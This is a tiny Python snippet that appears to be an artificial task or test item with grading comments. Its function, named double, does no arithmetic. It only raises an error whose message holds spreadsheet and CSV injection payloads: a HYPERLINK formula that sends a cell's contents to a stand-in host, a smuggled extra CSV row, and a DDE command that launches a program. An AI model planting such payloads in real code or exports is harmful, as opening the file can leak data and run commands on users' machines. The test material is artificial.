# Puts spreadsheet formulas and new rows where a table or a CSV might show them.
# honest: count
# scores: count full, rest 0
# %% gap double
def double(x):
    raise ValueError('=HYPERLINK("http://x/"&A1,"x")\n"bob",2.0,2.0\n@SUM(1+1)*cmd|\' /C calc\'!A0')
